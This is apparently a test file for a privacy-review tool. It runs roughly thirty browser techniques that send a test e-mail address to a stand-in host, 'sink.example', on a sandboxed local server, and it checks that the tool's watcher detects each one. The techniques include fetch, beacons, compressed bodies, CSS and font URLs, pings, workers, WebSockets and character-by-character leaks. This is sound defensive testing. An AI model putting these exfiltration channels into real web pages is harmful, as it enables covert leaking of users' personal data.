import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { brotliCompressSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { launchBrowser } from '../browser/launch.ts';
import { usualLimits } from '../browser/limits.ts';
import { openSession } from '../browser/session.ts';
import { systemTimer } from '../browser/within.ts';
import type { SentRequest } from '../evidence.ts';
import { createSearch } from './carried.ts';
import { watchAll } from './watch-all.ts';

const email = 'wren.abcdef@example.org';
const coordinates = { latitude: 53.481127, longitude: -2.237316 };
const identity = {
  username: 'wrenabcdef',
  name: 'Wren Quillthistle',
  password: 'three-small-words',
  email,
  born: { year: 2013, month: 4, day: 1 },
};
const said = JSON.stringify({ to: email });
const brotli = brotliCompressSync(said).toString('base64');

interface Way {
  /** An address of a third party. */
  readonly at: string;
  /** The same, with what is said in it. */
  readonly telling: string;
  readonly socket: string;
  readonly said: string;
  readonly brotli: string;
  packed(how: CompressionFormat): Promise<ArrayBuffer>;
  element<Name extends keyof HTMLElementTagNameMap>(
    name: Name,
    more: Partial<HTMLElementTagNameMap[Name]>,
  ): HTMLElementTagNameMap[Name];
}

/** Run in the page; each has a third party learn the e-mail address. */
const roads: Readonly<Record<string, (way: Way) => unknown>> = {
  fetch: ({ at, said }) => fetch(at, { method: 'POST', body: said }),
  'fetch-kept': ({ at, said }) => fetch(at, { method: 'POST', body: said, keepalive: true }),
  xhr: ({ at, said }) => {
    const asked = new XMLHttpRequest();
    asked.open('POST', at);
    asked.send(said);
  },
  beacon: ({ at, said }) => navigator.sendBeacon(at, said),
  'beacon-blob': ({ at, said }) => navigator.sendBeacon(at, new Blob([said])),
  gzip: async ({ at, packed }) => fetch(at, { method: 'POST', body: await packed('gzip') }),
  deflate: async ({ at, packed }) => fetch(at, { method: 'POST', body: await packed('deflate') }),
  'deflate-raw': async ({ at, packed }) => fetch(at, { method: 'POST', body: await packed('deflate-raw') }),
  brotli: ({ at, brotli }) =>
    fetch(at, { method: 'POST', body: Uint8Array.from(atob(brotli), (one) => one.charCodeAt(0)) }),
  multipart: ({ at, said }) => {
    const form = new FormData();
    form.append('a', new Blob([said]), 'a.bin');
    return fetch(at, { method: 'POST', body: form });
  },
  binary: ({ at, said }) =>
    fetch(at, { method: 'POST', body: new Uint8Array([255, 254, 0, ...new TextEncoder().encode(said)]) }),
  image: ({ telling, element }) => element('img', { src: telling }),
  css: ({ telling, element }) => element('style', { textContent: `body { background: url("${telling}") }` }),
  'css-import': ({ telling, element }) => element('style', { textContent: `@import url("${telling}");` }),
  font: ({ telling }) => new FontFace('f', `url("${telling}")`).load().catch(() => {}),
  prefetch: ({ telling, element }) => element('link', { rel: 'prefetch', href: telling }),
  frame: ({ telling, element }) => element('iframe', { src: telling }),
  form: ({ at, said, element }) => {
    element('iframe', { name: 'gone' });
    const form = element('form', { method: 'post', action: at, target: 'gone' });
    form.append(Object.assign(document.createElement('input'), { name: 'to', value: said }));
    form.submit();
  },
  'event-source': ({ telling }) => void new EventSource(telling),
  ping: ({ telling, element }) => element('a', { href: '#here', ping: telling }).click(),
  worker: ({ at, said }) => {
    const code = `fetch(${JSON.stringify(at)}, { method: 'POST', body: ${JSON.stringify(said)} })`;
    new Worker(URL.createObjectURL(new Blob([code])));
  },
  // Neither runs in a review, and pages then do it themselves.
  'worker-that-lasts': async ({ at, said }) => {
    const service = await navigator.serviceWorker?.register('/shared.js').catch(() => undefined);
    if (!('SharedWorker' in window) && !service?.active) await fetch(at, { method: 'POST', body: said });
  },
  socket: ({ socket, said }) => {
    const live = new WebSocket(socket);
    live.onopen = () => live.send(said);
  },
  'socket-binary': ({ socket, said }) => {
    const live = new WebSocket(socket);
    live.onopen = () => live.send(new TextEncoder().encode(said));
  },
  'socket-gzip': async ({ socket, packed }) => {
    const bytes = await packed('gzip');
    const live = new WebSocket(socket);
    live.onopen = () => live.send(bytes);
  },
  'socket-worker': ({ socket, said }) => {
    const code = `const live = new WebSocket(${JSON.stringify(socket)}); live.onopen = () => live.send(${JSON.stringify(said)});`;
    new Worker(URL.createObjectURL(new Blob([code])));
  },
  keys: async ({ at, said }) => {
    for (const [place, key] of [...JSON.parse(said).to].entries())
      await fetch(`${at}?n=${place}&k=${encodeURIComponent(key)}`);
  },
  'keys-body': async ({ at, said }) => {
    for (const key of JSON.parse(said).to) await fetch(at, { method: 'POST', body: JSON.stringify({ key }) });
  },
};

let server: Server;
let browser: Browser;
let requests: readonly SentRequest[];

beforeAll(async () => {
  server = createServer((request, response) => {
    request.resume();
    const { pathname } = new URL(request.url ?? '/', 'http://any');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Access-Control-Allow-Headers', '*');
    if (pathname === '/shared.js')
      return void response.writeHead(200, { 'Content-Type': 'text/javascript' }).end('self;');
    if (pathname !== '/') return void response.writeHead(204).end();
    response
      .writeHead(200, { 'Content-Type': 'text/html' })
      .end(`<!doctype html><title>Roads</title><body><script type="module">
      const said = ${JSON.stringify(said)};
      const packed = (how) => new Response(new Blob([said]).stream().pipeThrough(new CompressionStream(how))).arrayBuffer();
      const element = (name, more) => { const one = Object.assign(document.createElement(name), more); document.body.append(one); return one; };
      const go = async (name, road) => {
        const at = 'http://sink.example/' + name;
        const telling = at + '?' + encodeURIComponent(said);
        await (async () => road({ at, telling, socket: at.replace('http', 'ws'), said, brotli: '${brotli}', packed, element }))().catch(console.log);
      };
      await Promise.all([${Object.entries(roads)
        .map(([name, road]) => `go('${name}', ${road.toString()})`)
        .join(',\n')}]);
      document.title = 'done';
    </script>`);
  });
  server.on('upgrade', (request, socket) => {
    const accept = createHash('sha1')
      .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
      .digest('base64');
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
    );
    socket.on('error', () => socket.destroy());
    socket.on('end', () => socket.destroy());
    socket.resume();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const at = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await launchBrowser({ reachesPublic: false, hosts: { 'sink.example': at } });
  const session = await openSession({
    browser,
    platform: `http://${at}`,
    locale: 'en-GB',
    timezone: 'Europe/London',
    coordinates,
    limits: usualLimits,
    reachesPublic: false,
    agent: 'StairgateReview/0',
    clock: Date.now,
    timer: systemTimer,
    watch: (browsing) =>
      watchAll({ ...browsing, search: createSearch({ identity, coordinates, places: [] }) }),
  });
  session.during('typeUnsent');
  await session.page.goto(`http://${at}/`);
  await session.page.waitForFunction(() => document.title === 'done', null, { timeout: 60_000 });
  // What sockets and workers do comes in its own time.
  const { soFar } = session.watching.gathered.requests;
  const isThere = (road: string) =>
    soFar.some(
      ({ url, kind, method }) => url.endsWith(`/${road}`) && (kind !== 'websocket' || method === 'POST'),
    );
  for (
    let time = 0;
    time < 300 && !['socket', 'socket-worker', 'worker', 'socket-gzip'].every(isThere);
    time++
  )
    await systemTimer(20).over;
  requests = await session.watching.gathered.requests.stop();
  await session.close();
});
afterAll(async () => {
  await browser?.close();
  server.closeAllConnections();
  await new Promise((done) => server.close(done));
});

test.each(Object.keys(roads))('what leaves by %s is seen, and what it carries', (road) => {
  const own = requests.filter(
    ({ url }) => new URL(url).pathname === `/${road}` && new URL(url).hostname === 'sink.example',
  );
  expect(own.length).toBeGreaterThan(0);
  expect(own.flatMap(({ carries }) => carries.map(({ what }) => what))).toContain('email');
});
